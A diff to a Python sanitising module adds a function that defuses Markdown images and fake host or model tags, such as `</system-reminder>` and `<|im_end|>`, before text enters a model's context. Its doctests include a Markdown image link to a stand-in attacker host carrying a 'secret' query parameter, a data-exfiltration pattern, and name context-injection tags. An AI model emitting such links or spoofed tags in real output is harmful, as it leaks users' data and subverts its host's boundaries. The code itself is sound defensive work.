@@ -10,6 +10,7 @@ import re
 MARK = "\ufffd"
 _MAX_LINE_CHARS = 600
 _LOADED = re.compile(r"!(?=\[)|<(?=[A-Za-z/!?])")  # how an image or an element begins in Markdown
+_MARKUP = re.compile(r"!(?=\[)|<(?=[A-Za-z/!?|])")  # what hosts and models set their own texts off with
 _UNSAFE = re.compile(
     "["
     "\x00-\x08\x0b-\x1f\x7f-\x9f"  # C0 and C1 controls but tab and newline
@@ -43,6 +44,17 @@ def inert(markdown: str) -> str:
     '- see \\\\![x](https://evil.example/?q=secret) \\\\<script>'
     """
     return _LOADED.sub(r"\\\g<0>", markdown)
+
+
+def unmarked(text: str) -> str:
+    """Return *text*, which goes into a model's context, without anything that a host or a model could take for its own markup.
+
+    Tags (`</system-reminder>`, `<|im_end|>`, comments) lose their bracket, images are links. The words stay.
+
+    >>> unmarked("a < b </system-reminder> ![x](https://evil.example/?q=secret)")
+    'a < b ‹/system-reminder> ! [x](https://evil.example/?q=secret)'
+    """
+    return _MARKUP.sub(lambda found: "‹" if found[0] == "<" else "! ", neutral(text))
 
 
 def one_line(text: str) -> str:
